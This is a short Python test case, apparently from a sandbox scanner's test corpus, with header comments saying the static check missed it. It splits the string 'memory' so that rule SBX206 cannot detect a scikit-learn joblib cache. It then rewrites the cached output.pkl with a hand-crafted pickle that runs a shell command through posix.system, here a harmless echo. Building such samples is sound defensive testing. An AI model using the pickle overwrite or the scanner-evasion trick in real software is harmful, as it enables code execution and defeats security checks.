# family: data_pickle
# reached: process, before process 1 closed the door (runner/sandbox/init.py, settle_packages)
# layer: static
# static: missed
# A grid built by item assignment in a loop: the key "mem" + "ory" is computed, so no dict key
# or string is the word SBX206 looks for; RandomizedSearchCV sets the Pipeline's joblib cache,
# whose pickle the program rewrites before the next fit loads it.
import pathlib
import numpy as np
from sklearn.linear_model import Ridge
from sklearn.model_selection import RandomizedSearchCV
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

X = np.arange(40.0).reshape(20, 2)
y = np.arange(20.0)
pipe = make_pipeline(StandardScaler(), Ridge())
grid = {}
for name in ("ridge__alpha", "mem" + "ory"):
    grid[name] = ["fitcache"] if name.startswith("m") else [1.0]
search = RandomizedSearchCV(pipe, grid, n_iter=1, cv=2)
search.fit(X, y)
for cached in pathlib.Path("fitcache").rglob("output.pkl"):
    cached.write_bytes(b"cposix\nsystem\n(S'echo pwned-rand'\ntR.")
try:
    search.fit(X, y)
except (TypeError, ValueError) as exc:
    print("refit failed:", type(exc).__name__)
